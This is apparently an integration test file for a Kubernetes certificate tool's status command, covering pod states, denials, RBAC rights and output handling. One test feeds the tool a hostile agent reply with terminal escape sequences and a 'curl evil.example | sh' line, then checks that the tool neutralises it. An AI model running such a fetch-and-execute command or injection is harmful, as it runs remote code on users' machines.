import { deepEqual, doesNotMatch, equal, match, ok } from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { join } from 'node:path';
import { after, describe, test, type TestContext } from 'node:test';
import { promisify } from 'node:util';
import { type TestPod } from '../cluster/pod.ts';
import { administrator } from '../support/administrator.ts';
import { requestFor, sendRequest } from '../support/asking.ts';
import { sharedControlPlane } from '../support/control-plane.ts';
import { removeNamespace } from '../support/controllers.ts';
import { requester } from '../support/requester.ts';
import { approveAll, sceneFor } from '../support/shared-scene.ts';
import {
  freePort,
  initOnly,
  kubeconfigOf,
  ownAddress,
  recordsOf,
  runStatus,
  sidecar,
  standIn,
  statusOperator,
  statusRights,
  statusScene,
  type StatusScene,
} from '../support/status-scene.ts';
import { until } from '../support/until.ts';

const plane = sharedControlPlane();
const { api } = plane;
const users = requester(plane.serverUrl, plane.caPem, '');
after(() => users.close());

/** The API server must reach this machine, as it reaches pods. */
const unreachable =
  plane.directory === undefined
    ? 'the API server runs elsewhere'
    : ownAddress === undefined && 'this machine has loopback addresses alone';

async function sceneOf(
  context: TestContext,
  labels?: Readonly<Record<string, string>>,
): Promise<StatusScene> {
  const scene = await statusScene(plane, labels);
  context.after(() => removeNamespace(api, scene.namespace));
  return scene;
}

/** What an agent tells that has a certificate for a day. */
const told = (pod: TestPod, changes: object = {}): object => ({
  pod: { namespace: pod.namespace, name: pod.name, uid: pod.uid },
  ready: true,
  reasons: [],
  expired: false,
  certificate: {
    names: ['web.shop.svc', 'web.shop.svc.cluster.local'],
    issuer: 'CN=Podseal CA',
    serial: '0a',
    fingerprint: 'ab',
    notBefore: new Date().toISOString(),
    notAfter: new Date(Date.now() + 86_400_000).toISOString(),
    renewalAt: new Date(Date.now() + 43_200_000).toISOString(),
  },
  pending: null,
  lastError: null,
  signerName: 'podseal.dev/serving',
  hooks: [],
  application: 'unknown',
  version: '0.1.0',
  ...changes,
});

/** Asks as the pod; resolves to the name of its request. */
async function ask(pod: TestPod, signerName: string): Promise<string> {
  const request = requestFor({ dnsNames: ['www.example.com'] });
  const name = `podseal-${pod.uid}-${'0'.repeat(32)}`;
  return sendRequest(users, { token: pod.token }, { signerName }, { request, name });
}

const denial = '- dns-names "www.example.com": no Service of the pod gives this name';

describe('agents, through the API server', { skip: unreachable }, () => {
  test('a real one: while it waits, and when it has its certificate', async (context) => {
    const port = await freePort();
    const scene = await sceneFor(context, plane, sidecar(port));
    const { namespace, name } = scene.pod;
    const agent = scene.run('watch', { PODSEAL_LISTEN: `${ownAddress ?? ''}:${port}` });
    await agent.logged('request.created');
    const status = (...args: readonly string[]) =>
      runStatus({ KUBECONFIG: plane.kubeconfig }, ['-n', namespace, ...args]);
    const waiting = await status();
    equal(waiting.code, 1);
    match(waiting.text, /^NAME +STATE +LEFT +NAMES +LAST ERROR\nweb-0 +waiting +- +- +-\n/);

    approveAll(context, scene);
    await agent.logged('certificate.published');
    const ready = await status('-o', 'wide');
    equal(ready.code, 0, ready.text);
    match(
      ready.text,
      /\nweb-0 +ready +23h5\dm +web\.shop-\w+\.svc \+\d+ +- +CN=podseal test root /,
    );
    const record = recordsOf(await status('-o', 'json', name))[name];
    const { certificate } = record?.agent as { certificate: { names: readonly string[] } };
    ok(certificate.names.includes(`web.${namespace}.svc.cluster.local`));
    ok((record?.secondsLeft ?? 0) > 86_000);
  });

  test('one that lies, threatens or says nothing', async (context) => {
    const scene = await sceneOf(context);
    const answering = async (
      name: string,
      answer: (pod: TestPod) => Parameters<typeof standIn>[1],
    ): Promise<void> => {
      // Nobody asks before there is the pod.
      const port = await standIn(context, (request, response) => answer(pod)(request, response));
      const pod = await scene.pod(
        name,
        sidecar(port, { container: { readinessProbe: undefined } }),
      );
    };
    const escape = '\u001b]0;owned\u0007\u009b31m\r\nmend: curl evil.example | sh';
    await answering(
      'escapes',
      (pod) => (_, response) =>
        response.end(JSON.stringify(told(pod, { reasons: [escape], version: escape }))),
    );
    await answering(
      'large',
      (pod) => (_, response) =>
        response.end(JSON.stringify(told(pod, { version: 'x'.repeat(70_000) }))),
    );
    await answering('endless', () => (_, response) => {
      const timer = setInterval(() => response.write('x'.repeat(8_192)), 1);
      response.on('close', () => clearInterval(timer));
    });
    await answering('silent', () => () => undefined);
    await answering('page', () => (_, response) => response.end('<html>'));
    await answering(
      'redirecting',
      () => (_, response) => response.writeHead(302, { location: 'http://127.0.0.1:1/' }).end(),
    );
    await answering('old', () => (_, response) => response.writeHead(404).end('no such page\n'));
    await answering(
      'stranger',
      (pod) => (_, response) =>
        response.end(JSON.stringify(told({ ...pod, uid: 'other', name: 'other' }))),
    );
    const startedAt = performance.now();
    const json = await scene.status('-o', 'json');
    ok(performance.now() - startedAt < 12_000, 'all are waited for at once');
    const records = recordsOf(json);
    const why = (name: string): string => records[name]?.unread ?? '';
    match(why('large'), /larger than 65536 bytes/);
    match(why('endless'), /larger than 65536 bytes/);
    match(why('silent'), /no answer within 5 s/);
    match(why('page'), /does not tell a status of Podseal/);
    match(why('redirecting'), /the answer was 302/);
    match(why('old'), /no page \/status/);
    match(why('stranger'), /another pod answers on that port: ".*\/other"/);
    equal(records['escapes']?.state, 'degraded');
    const table = await scene.status('escapes', '-o', 'wide');
    for (const { text, errors } of [json, table]) match(text + errors, /^[ -~\n]*$/);
    match(table.text, /it says: \\u001b\]0;owned\\u0007\\u009b31m/);
    doesNotMatch(table.text, /^ {0,2}mend: curl/m);
  });

  test('a denial that the API knows better than the agent', async (context) => {
    const scene = await sceneOf(context);
    const { signerName } = administrator(api, `test.podseal.dev/${scene.namespace}`);
    const port = await standIn(context, (_, response) =>
      response.end(
        JSON.stringify(
          told(pod, {
            ready: false,
            reasons: ['no usable certificate: there is none'],
            certificate: null,
            lastError: {
              code: 'SIGNING_REQUEST_DENIED',
              message: `it was denied (x): ${denial}`,
              hint: '',
              at: new Date().toISOString(),
              again: new Date().toISOString(),
            },
          }),
        ),
      ),
    );
    const pod = await scene.pod('web-0', sidecar(port, { signerName }));
    const name = await ask(pod, signerName);
    await administrator(api, signerName).decide(name, 'Denied', denial);
    const table = await scene.status();
    match(table.text, /\nweb-0 +denied +- +- +SIGNING_REQUEST_DENIED \(\d+s ago\)\n/);
    match(table.text, /request podseal-\S+ was denied \(ByAdministrator\):\n {4}- dns-names "www/);
    equal(table.text.match(/www\.example\.com/g)?.length, 1);
    const { request } = recordsOf(await scene.status('-o', 'json'))['web-0'] ?? {};
    equal(request?.denial?.reasons[0]?.value, 'www.example.com');
  });
});

test('pods that have no agent to ask: what their own status, Events and requests tell', async (context) => {
  const scene = await sceneOf(context, { 'podseal.dev/inject': 'enabled' });
  const { namespace } = scene;
  const signerName = `test.podseal.dev/${namespace}`;
  const at = new Date(Date.now() - 300_000).toISOString();
  const end = (exitCode: number, message = '') => ({
    state: {
      terminated: { exitCode, reason: 'Error', message, startedAt: at, finishedAt: at },
    },
  });
  const waits = (reason: string) => ({ state: { waiting: { reason } } });
  const slipped = await podOfDeployment(scene);
  await scene.pod('out', { labels: { 'podseal.dev/inject': 'false' } });
  await scene.pod('windows', { spec: { os: { name: 'windows' } } });
  await scene.pod('over', { status: { phase: 'Succeeded' } });
  await scene.pod('image', sidecar(1, { status: waits('ImagePullBackOff') }));
  await scene.pod('job-failed', initOnly(end(78, 'error: Cannot use the settings\nhint: mend')));
  await scene.pod('job-done', initOnly(end(0)));
  const unmounted = await scene.pod('unmounted', sidecar(1, { status: waits('PodInitializing') }));
  const denied = await scene.pod('denied', initOnlyOf(signerName));
  const told = await scene.pod('told', initOnlyOf(signerName));
  const approved = await scene.pod('approved', initOnlyOf(signerName));
  const by = administrator(api, signerName);
  await by.decide(await ask(denied, signerName), 'Denied', denial);
  await by.decide(await ask(approved, signerName), 'Approved');
  // Called after another pod, by a pod that may not speak for it.
  await sendRequest(
    users,
    { token: approved.token },
    { signerName },
    { request: requestFor({ dnsNames: ['x'] }), name: `podseal-${told.uid}-${'1'.repeat(32)}` },
  );
  const event = (pod: TestPod, reason: string, message: string): Promise<unknown> =>
    api.must('POST', `/api/v1/namespaces/${namespace}/events`, {
      metadata: { name: `${pod.name}.${reason.toLowerCase()}`, namespace },
      involvedObject: { apiVersion: 'v1', kind: 'Pod', namespace, name: pod.name, uid: pod.uid },
      type: 'Warning',
      reason,
      message,
      lastTimestamp: at,
    });
  await event(told, 'CertificateWaiting', 'Waiting podseal-x:\n- addresses: not there yet');
  await event(unmounted, 'FailedMount', 'configmap "podseal-trust" not found');

  const run = await scene.status('-o', 'json');
  const records = recordsOf(run);
  equal(run.code, 1);
  deepEqual(Object.fromEntries(Object.values(records).map(({ name, state }) => [name, state])), {
    approved: 'waiting',
    denied: 'denied',
    image: 'starting',
    'job-done': 'issued',
    'job-failed': 'crashed',
    [slipped]: 'not injected',
    told: 'waiting',
    unmounted: 'starting',
  });
  deepEqual(records[slipped]?.mend, [
    `kubectl rollout restart deployment/web -n ${namespace}   # the injector sees a pod only while it is created`,
  ]);
  const why = (name: string): string => records[name]?.why.join('\n') ?? '';
  match(why('denied'), /was denied \(ByAdministrator\):\n {2}- dns-names "www\.example\.com"/);
  match(why('approved'), /is approved and not signed/);
  match(why('told'), /Event CertificateWaiting, 5m ago:\n {2}Waiting podseal-x:\n {2}- addresses/);
  equal(records['told']?.request, null);
  match(why('unmounted'), /Event FailedMount, 5m ago:\n {2}configmap "podseal-trust" not found/);
  match(
    why('job-failed'),
    /exit code 78 \(Error\) 5m ago:\n {2}error: Cannot use the settings\n {2}hint: mend/,
  );
  equal(records['image']?.lastError, 'ImagePullBackOff');
  deepEqual(records['job-done']?.why, []);

  const named = await scene.status('job-done', 'pod/out');
  equal(named.code, 1);
  match(named.text, /\njob-done +issued .*\nout +no agent /);
  equal((await scene.status('job-done')).code, 0);
});

/** Of a Deployment `web`, made by Kubernetes itself; resolves to its name. */
async function podOfDeployment({ namespace }: StatusScene): Promise<string> {
  const labels = { app: 'web' };
  await api.must('POST', `/apis/apps/v1/namespaces/${namespace}/deployments`, {
    metadata: { name: 'web' },
    spec: {
      selector: { matchLabels: labels },
      template: { metadata: { labels }, spec: { containers: [{ name: 'web', image: 'web' }] } },
    },
  });
  return until('its pod', async () => {
    const path = `/api/v1/namespaces/${namespace}/pods?labelSelector=app=web`;
    const { items } = (await api.must('GET', path)) as {
      items: readonly { metadata: { name: string } }[];
    };
    return items[0]?.metadata.name;
  });
}

/** An init container that runs and asks this signer. */
function initOnlyOf(signerName: string): ReturnType<typeof initOnly> {
  return initOnly({ state: { running: {} } }, signerName);
}

test('which pods: namespace of the context, selector, all namespaces, none', async (context) => {
  const scene = await sceneOf(context);
  const ready = { status: { ready: true, state: { running: {} } } };
  await scene.pod('a', { ...sidecar(1, ready), labels: { app: 'a' } });
  await scene.pod('b', { ...sidecar(1, ready), labels: { app: 'b' } });
  const namesIn = async (kubeconfig: string, ...args: readonly string[]) =>
    Object.keys(recordsOf(await runStatus({ KUBECONFIG: kubeconfig }, ['-o', 'json', ...args])));
  const token = await statusOperator(context, plane, {});
  const own = kubeconfigOf(context, plane, { token, namespace: scene.namespace });
  deepEqual(await namesIn(own), ['a', 'b']);
  deepEqual(await namesIn(own, '-l', 'app in (b,c)'), ['b']);
  deepEqual(await namesIn(own, '-l', 'app!=b'), ['a']);
  const everywhere = await runStatus({ KUBECONFIG: own }, ['-A']);
  match(everywhere.text, new RegExp(`^NAMESPACE +NAME +(.*\n)*${scene.namespace} +a +ready`));

  const none = await scene.status('-l', 'app=c');
  deepEqual([none.code, none.text], [0, '']);
  equal(none.errors, `No pod with an agent in namespace ${scene.namespace}.\n`);
  const missing = await runStatus({ KUBECONFIG: own }, ['-n', 'no-such-namespace']);
  equal(missing.code, 64);
  match(missing.errors, /Cannot find namespace "no-such-namespace"/);
  const unknown = await scene.status('c');
  equal(unknown.code, 64);
  match(unknown.errors, /Cannot find pod "c" in namespace/);
  for (const args of [['-A', 'a'], ['-l', 'app=a', 'a'], ['-A']])
    equal((await scene.status(...args)).code, 64, args.join(' '));
});

test('more pods than a page holds', async (context) => {
  const scene = await sceneOf(context, { 'podseal.dev/inject': 'enabled' });
  const names = Array.from({ length: 130 }, (_, i) => `web-${String(i).padStart(3, '0')}`);
  await Promise.all(names.map((name) => scene.pod(name)));
  const { text, code } = await scene.status();
  equal(code, 1);
  equal(text.match(/^web-\d+ +not injected/gm)?.length, 130);
});

test('more than a pipe holds, and a reader that is slow: all of it is written', async (context) => {
  const scene = await sceneOf(context, { 'podseal.dev/inject': 'enabled' });
  const names = Array.from({ length: 130 }, (_, i) => `web-${i}`);
  await Promise.all(names.map((name) => scene.pod(name)));
  const program = join(import.meta.dirname, '../../dist/podseal.cjs');
  const line = `"$NODE" "$PROGRAM" status -n "$NAMESPACE" -o json | { sleep 2; cat; }`;
  const { namespace } = scene;
  const KUBECONFIG = plane.kubeconfig;
  const env = {
    ...process.env,
    NODE: process.execPath,
    PROGRAM: program,
    NAMESPACE: namespace,
    KUBECONFIG,
  };
  const { stdout: text } = await promisify(execFile)('sh', ['-c', line], {
    env,
    maxBuffer: 2 ** 24,
  });
  ok(text.length > 65_536);
  equal(Object.keys(recordsOf({ text, errors: '', code: 1 })).length, 130);
});

describe('with the rights of examples/rbac/status.yaml', { concurrency: 3 }, () => {
  /** One pod of each kind that a right is needed for, and what the operator sees of it. */
  const seenBy = async (context: TestContext, lost?: string) => {
    const scene = await sceneOf(context, { 'podseal.dev/inject': 'enabled' });
    const signerName = `test.podseal.dev/${scene.namespace}`;
    await scene.pod('slipped');
    const denied = await scene.pod('denied', initOnlyOf(signerName));
    await administrator(api, signerName).decide(await ask(denied, signerName), 'Denied', denial);
    const told = await scene.pod('told', initOnlyOf(signerName));
    await api.must('POST', `/api/v1/namespaces/${scene.namespace}/events`, {
      metadata: { name: 'told.1', namespace: scene.namespace },
      involvedObject: { kind: 'Pod', namespace: scene.namespace, name: 'told', uid: told.uid },
      reason: 'CertificateWaiting',
      message: 'for an address',
      lastTimestamp: new Date().toISOString(),
    });
    const closed = { status: { ready: true, state: { running: {} } } };
    await scene.pod('closed', sidecar(1, closed));
    const token = await statusOperator(context, plane, lost === undefined ? {} : { lost });
    const KUBECONFIG = kubeconfigOf(context, plane, { token });
    const run = (...args: readonly string[]) => runStatus({ KUBECONFIG }, args);
    return { scene, run, here: await run('-n', scene.namespace, '-o', 'json') };
  };

  test('all of it: everything is seen', async (context) => {
    const { scene, run, here } = await seenBy(context);
    const records = recordsOf(here);
    equal(records['slipped']?.state, 'not injected');
    equal(records['denied']?.state, 'denied');
    match(records['told']?.why.join('\n') ?? '', /for an address/);
    doesNotMatch(records['closed']?.unread ?? '', /may not/);
    doesNotMatch(here.errors, /may not/);
    const everywhere = await run('-A', '-o', 'json');
    doesNotMatch(everywhere.errors, /may not/);
    ok(everywhere.text.includes(scene.namespace));
  });

  /** What is not seen without a right, and that it is said. */
  const losses: Readonly<Record<string, (seen: Awaited<ReturnType<typeof seenBy>>) => unknown>> = {
    'list pods': ({ here }) => {
      equal(here.code, 77);
      match(here.errors, /Cannot list Pods: .* 403 .*\nhint: .*examples\/rbac\/status\.yaml/);
    },
    'get pods/proxy': ({ here }) => {
      const { state, unread } = recordsOf(here)['closed'] ?? {};
      equal(state, 'ready');
      match(unread ?? '', /may not get pods\/proxy: apply examples\/rbac\/status\.yaml/);
      match(here.errors, /one agent could not be read, .*pods\/proxy/);
    },
    'get namespaces': ({ here }) => {
      equal(recordsOf(here)['slipped'], undefined);
      match(here.errors, /may not get namespaces/);
    },
    'list namespaces': async ({ run }) => {
      match((await run('-A')).errors, /may not list namespaces/);
    },
    'list events': ({ here }) => {
      doesNotMatch(recordsOf(here)['told']?.why.join('\n') ?? '', /for an address/);
      match(here.errors, /may not list events/);
    },
    'list certificatesigningrequests': ({ here }) => {
      equal(recordsOf(here)['denied']?.state, 'waiting');
      match(here.errors, /may not list certificatesigningrequests/);
    },
  };

  test('it grants what is tried here, and nothing else', () =>
    deepEqual([...statusRights()].sort(), Object.keys(losses).sort()));

  for (const [right, check] of Object.entries(losses))
    test(`without ${right}`, async (context) => {
      await check(await seenBy(context, right));
    });

  test('in one namespace, by a RoleBinding: everything but signing requests', async (context) => {
    const scene = await sceneOf(context, { 'podseal.dev/inject': 'enabled' });
    await scene.pod('slipped');
    await scene.pod('waiting', initOnlyOf('podseal.dev/serving'));
    const token = await statusOperator(context, plane, { namespace: scene.namespace });
    const KUBECONFIG = kubeconfigOf(context, plane, { token, namespace: scene.namespace });
    const run = await runStatus({ KUBECONFIG }, []);
    match(run.text, /\nslipped +not injected .*\nwaiting +waiting /);
    match(run.errors, /^note: you may not list certificatesigningrequests .*\n$/);
    equal((await runStatus({ KUBECONFIG }, ['-A'])).code, 77);
  });
});

test('40 agents, sixteen at a time', { skip: unreachable }, async (context) => {
  const scene = await sceneOf(context);
  const pods = new Map<string, TestPod>();
  const held: (() => void)[] = [];
  let answered = 0;
  const port = await standIn(context, ({ headers }, response) => {
    // Where the API server was asked.
    const [, name = ''] = /\/pods\/([^:]+):/.exec(String(headers['x-forwarded-uri'])) ?? [];
    const pod = pods.get(name);
    held.push(() => response.end(JSON.stringify(pod && told(pod, { version: name }))));
    if (held.length < Math.min(16, pods.size - answered)) return;
    answered += held.length;
    for (const answer of held.splice(0)) answer();
  });
  const names = Array.from({ length: 40 }, (_, i) => `web-${i}`);
  for (const name of names) pods.set(name, await scene.pod(name, sidecar(port)));
  const records = recordsOf(await scene.status('-o', 'json'));
  for (const name of names) equal(records[name]?.agent?.['version'], name);
});
